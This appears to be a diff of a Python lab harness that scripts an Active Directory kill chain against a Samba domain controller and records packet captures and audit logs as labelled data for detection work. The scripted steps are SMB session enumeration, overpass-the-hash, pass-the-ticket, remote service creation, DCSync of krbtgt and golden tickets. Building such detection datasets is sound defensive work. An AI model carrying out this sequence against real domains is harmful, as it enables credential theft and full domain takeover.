+    notes="One attack story in order (see README.md): (1) baseline: DC locator, WS1$ and "
+    "alice logons + GPO reads, da.admin logs on at WS2 and keeps an SMB session; "
+    "(2) alice on WS1 runs NetrSessionEnum (srvsvc, levels 10/502/1/0: "
+    "ACCESS_DENIED from Samba) to find where da.admin is logged on; (3) "
+    "overpass-the-hash: RC4-only AS-REQ for hd.admin from its stolen NT hash, TGS "
+    "cifs/dc01 and SMB; (4) pass-the-ticket: da.admin's TGT from WS2 used from WS1 "
+    "(TGS-REQ + SMB from 10.77.0.21); (5) remote code execution on the DC with "
+    "that ticket: svcctl CreateServiceW WinUpdSvc '" + EVIL_CMD + "' (refused by "
+    "Samba, on the wire); (6) DCSync of krbtgt from WS1 as da.admin (DRSUAPI "
+    "DRSGetNCChanges, NTLM with da.admin's NT hash); (7) golden ticket for "
+    "Administrator: RC4-forged TGT (TGS-REQ refused) and AES-forged TGT used for "
+    "TGS-REQs and SMB.",
+    audit_expected="2008",
+    audit_tolerated="2002;2006;2012;2013;2017;2018;2019;2022;2026;2027;2032;2040",
+)
 def sc_killchain(s):
     # Samba's KDC record names the pre-auth key type: arcfour-hmac-md5 for hd.admin (2008)
-    s.audit_expected = "2008"
-    s.audit_tolerated = "2012;2018;2019;2006;2032;2002;2013;2022;2026;2027;2040"
     # (1) baseline
     benign_activity(s, short=True)
     kinit(s, "dcw-ws2", "da.admin", PW["da.admin"], "da.cc", "da.admin logs on at WS2")
-    smbclient_krb(s, "dcw-ws2", "da.cc", "sysvol", f"cd {DNS_DOMAIN}/Policies; ls",
-                  "da.admin's GPO processing on WS2")
+    smbclient_krb(
+        s,
+        "dcw-ws2",
+        "da.cc",
+        "sysvol",
+        f"cd {DNS_DOMAIN}/Policies; ls",
+        "da.admin's GPO processing on WS2",
+    )
     holder = start_holder(s, "dcw-ws2", "da.admin", 15)
     # (2) recon of sessions
-    step(s, "dcw-ws1", "session_enum", "--user", "alice", "--password", PW["alice"],
-         desc="(2) alice enumerates SMB sessions on the DC")
+    step(
+        s,
+        "dcw-ws1",
+        "session_enum",
+        "--user",
+        "alice",
+        "--password",
+        PW["alice"],
+        desc="(2) alice enumerates SMB sessions on the DC",
+    )
     stop_holder(holder)
     # (3) overpass-the-hash
-    step(s, "dcw-ws1", "asktgt", "--user", "hd.admin", "--nthash", nthash(PW["hd.admin"]),
-         "--use-spn", f"cifs/dc01.{DNS_DOMAIN}", "--smb",
-         desc="(3) overpass-the-hash with hd.admin's NT hash (RC4-only AS-REQ)")
+    step(
+        s,
+        "dcw-ws1",
+        "asktgt",
+        "--user",
+        "hd.admin",
+        "--nthash",
+        nthash(PW["hd.admin"]),
+        "--use-spn",
+        f"cifs/dc01.{DNS_DOMAIN}",
+        "--smb",
+        desc="(3) overpass-the-hash with hd.admin's NT hash (RC4-only AS-REQ)",
+    )
     # (4) pass-the-ticket
-    step(s, "dcw-ws1", "smb_login", "--ccache", f"{WORK}/da.cc",
-         desc="(4) pass-the-ticket: da.admin's WS2 TGT used from WS1")
+    step(
+        s,
+        "dcw-ws1",
+        "smb_login",
+        "--ccache",
+        f"{WORK}/da.cc",
+        desc="(4) pass-the-ticket: da.admin's WS2 TGT used from WS1",
+    )
     # (5) remote code execution on the DC
-    step(s, "dcw-ws1", "svcctl", "--ccache", f"{WORK}/da.cc", "--name", "WinUpdSvc",
-         "--binpath", EVIL_CMD, desc="(5) service creation on the DC with the stolen ticket")
+    step(
+        s,
+        "dcw-ws1",
+        "svcctl",
+        "--ccache",
+        f"{WORK}/da.cc",
+        "--name",
+        "WinUpdSvc",
+        "--binpath",
+        EVIL_CMD,
+        desc="(5) service creation on the DC with the stolen ticket",
+    )
     # (6) DCSync
-    step(s, "dcw-ws1", "dcsync", "--user", "da.admin", "--nthash", nthash(PW["da.admin"]),
-         "--target-user", "krbtgt", desc="(6) DCSync of krbtgt")
+    step(
+        s,
+        "dcw-ws1",
+        "dcsync",
+        "--user",
+        "da.admin",
+        "--nthash",
+        nthash(PW["da.admin"]),
+        "--target-user",
+        "krbtgt",
+        desc="(6) DCSync of krbtgt",
+    )
     # (7) golden ticket
     golden_steps(s)
 
 
 # --------------------------------------------------------------------------- main
 
+
 def scenario_rows(s: Scenario, vers: dict) -> list[dict]:
-    src = (f" [source: dcwatch lab `python3 lab/run.py --scenario {s.name}`, "
-           f"Samba {vers['samba'].replace('Version ', '')}, impacket {vers['impacket']}]")
+    src = (
+        f" [source: dcwatch lab `python3 lab/run.py --scenario {s.name}`, "
+        f"Samba {vers['samba'].replace('Version ', '')}, impacket {vers['impacket']}]"
+    )
     return [
-        {"file": "dc.pcap", "expected_external_ids": s.expected,
-         "key_entities": s.key_entities,
-         "notes": "PCAP of the DC's interface (tcpdump in the DC namespace). " + s.notes + src,
-         "tolerated_external_ids": s.tolerated},
-        {"file": "samba-audit.jsonl",
-         "expected_external_ids": getattr(s, "audit_expected", s.expected),
-         "key_entities": s.key_entities,
-         "notes": ("same run, the DC's Samba JSON audit records (Authentication, Authorization,"
-                   " dsdbChange, passwordChange, groupChange, dsdbTransaction), one per line. "
-                   + s.notes + src),
-         "tolerated_external_ids": getattr(s, "audit_tolerated", s.tolerated)},
+        {
+            "file": "dc.pcap",
+            "expected_external_ids": s.expected,
+            "key_entities": s.key_entities,
+            "notes": "PCAP of the DC's interface (tcpdump in the DC namespace). " + s.notes + src,
+            "tolerated_external_ids": s.tolerated,
+        },
+        {
+            "file": "samba-audit.jsonl",
+            "expected_external_ids": s.audit_expected,
+            "key_entities": s.key_entities,
+            "notes": (
+                "same run, the DC's Samba JSON audit records (Authentication, Authorization,"
+                " dsdbChange, passwordChange, groupChange, dsdbTransaction), one per line. "
+                + s.notes
+                + src
+            ),
+            "tolerated_external_ids": s.audit_tolerated,
+        },
     ]
 
 
-def write_labels(out: Path, rows: list[dict], prefix: str = "") -> None:
+GENERATED = ("dc.pcap", "samba-audit.jsonl", "labels.csv", "README.md")
+
+
+def write_scenario_labels(out: Path, s: Scenario, vers: dict) -> None:
+    """<out>/<scenario>/labels.csv (paths relative to it) and the merged <out>/labels.csv."""
+    srows = scenario_rows(s, vers)
+    write_labels(out / s.name, srows)
+    write_labels(out, [{**r, "file": f"{s.name}/{r['file']}"} for r in srows])
+
+
+def write_labels(out: Path, rows: list[dict]) -> None:
     path = out / "labels.csv"
     existing: dict[str, dict] = {}
     if path.exists():
@@ -1041,10 +1703,25 @@ def main(argv: list[str] | None = None) -> int:
     ap.add_argument("--list", action="store_true", help="list the scenarios and exit")
     ap.add_argument("--down", action="store_true", help="tear a kept lab down and exit")
     ap.add_argument("--no-scenarios", action="store_true", help="only build the lab")
+    ap.add_argument(
+        "--labels-only",
+        action="store_true",
+        help="rewrite the labels.csv files of existing recordings from the scenario "
+        "definitions, without building the lab",
+    )
     args = ap.parse_args(argv)
     if args.list:
         for s in SCENARIOS.values():
             print(f"{s.name:28} {s.expected or '-'}")
+        return 0
+    if args.labels_only:
+        out = Path(args.out).resolve()
+        vers = versions()
+        for n in args.scenario or list(SCENARIOS):
+            if (out / n / "dc.pcap").exists():
+                write_scenario_labels(out, SCENARIOS[n], vers)
+                refresh_readme_notes(out / n / "README.md", SCENARIOS[n])
+                log(f"labels rewritten: {n}")
         return 0
     if os.geteuid() != 0:
         print("lab/run.py must run as root (network namespaces, tcpdump, samba)", file=sys.stderr)
@@ -1075,21 +1752,30 @@ def main(argv: list[str] | None = None) -> int:
             s = SCENARIOS[n]
             log(f"=== scenario {n}")
             d = out / n
-            shutil.rmtree(d, ignore_errors=True)
+            # record into a scratch folder; a failed scenario leaves the old recording alone
+            tmp = out / f".{n}.recording"
+            shutil.rmtree(tmp, ignore_errors=True)
             s.steps = []
             try:
-                with Capture(d, s.snaplen) as cap:
+                with Capture(tmp, s.snaplen) as cap:
                     s.func(s)
             except Exception as e:  # noqa: BLE001 - keep recording the other scenarios
                 log(f"scenario {n} FAILED: {e}")
                 failures.append(n)
+                shutil.rmtree(tmp, ignore_errors=True)
                 continue
+            d.mkdir(parents=True, exist_ok=True)
+            for name in GENERATED:  # other files there (e.g. scan-options.toml) are kept
+                (d / name).unlink(missing_ok=True)
+            for f in tmp.iterdir():
+                shutil.move(str(f), d / f.name)
+            shutil.rmtree(tmp, ignore_errors=True)
             size = (d / "dc.pcap").stat().st_size
-            log(f"scenario {n}: pcap {size} bytes ({cap.packets} packets), "
-                f"{len(cap.audit)} audit records")
-            srows = scenario_rows(s, vers)
-            write_labels(d, srows, prefix="")
-            write_labels(out, [{**r, "file": f"{n}/{r['file']}"} for r in srows])
+            log(
+                f"scenario {n}: pcap {size} bytes ({cap.packets} packets), "
+                f"{len(cap.audit)} audit records"
+            )
+            write_scenario_labels(out, s, vers)
             write_provenance(d, s, vers)
     finally:
         if not args.keep:
@@ -1102,19 +1788,40 @@ def main(argv: list[str] | None = None) -> int:
     return 0
 
 
+def refresh_readme_notes(readme: Path, s: Scenario) -> None:
+    """Replace the notes paragraph (between the title and "Recorded ...") of a README."""
+    if not readme.exists():
+        return
+    lines = readme.read_text().splitlines()
+    try:
+        end = next(i for i, line in enumerate(lines) if line.startswith("Recorded "))
+    except StopIteration:
+        return
+    readme.write_text("\n".join([lines[0], "", s.notes, "", *lines[end:]]) + "\n")
+
+
 def write_provenance(d: Path, s: Scenario, vers: dict) -> None:
-    lines = [f"# {s.name}", "", s.notes, "",
-             f"Recorded {time.strftime('%Y-%m-%d')} by `python3 lab/run.py --scenario {s.name}`"
-             f" (dcwatch lab). Samba: {vers['samba']}; impacket {vers['impacket']}; "
-             f"ldap3 {vers['ldap3']}; capture: {vers['tcpdump']} on the DC namespace's eth0.",
-             "", "## Provenance (one line per capture)", "",
-             f"- `dc.pcap`: tool tcpdump ({vers['tcpdump']}), command `ip netns exec dcw-dc "
-             f"tcpdump -i eth0 -n -U -s {s.snaplen} -w dc.pcap 'not (ether proto 0x0806) and "
-             f"not ip6'`, Samba {vers['samba']}, impacket {vers['impacket']}",
-             f"- `samba-audit.jsonl`: tool Samba JSON audit logging (log level "
-             f"`{SAMBA_OPTIONS['log level']}`), JSON records extracted verbatim from the DC's log"
-             f" during the run, Samba {vers['samba']}, impacket {vers['impacket']}",
-             "", "## Steps", ""]
+    lines = [
+        f"# {s.name}",
+        "",
+        s.notes,
+        "",
+        f"Recorded {time.strftime('%Y-%m-%d')} by `python3 lab/run.py --scenario {s.name}`"
+        f" (dcwatch lab). Samba: {vers['samba']}; impacket {vers['impacket']}; "
+        f"ldap3 {vers['ldap3']}; capture: {vers['tcpdump']} on the DC namespace's eth0.",
+        "",
+        "## Provenance (one line per capture)",
+        "",
+        f"- `dc.pcap`: tool tcpdump ({vers['tcpdump']}), command `ip netns exec dcw-dc "
+        f"tcpdump -i eth0 -n -U -s {s.snaplen} -w dc.pcap 'not (ether proto 0x0806) and "
+        f"not ip6'`, Samba {vers['samba']}, impacket {vers['impacket']}",
+        f"- `samba-audit.jsonl`: tool Samba JSON audit logging (log level "
+        f"`{SAMBA_OPTIONS['log level']}`), JSON records extracted verbatim from the DC's log"
+        f" during the run, Samba {vers['samba']}, impacket {vers['impacket']}",
+        "",
+        "## Steps",
+        "",
+    ]
     for st in s.steps:
         lines.append(f"- {st}")
     (d / "README.md").write_text("\n".join(lines) + "\n")
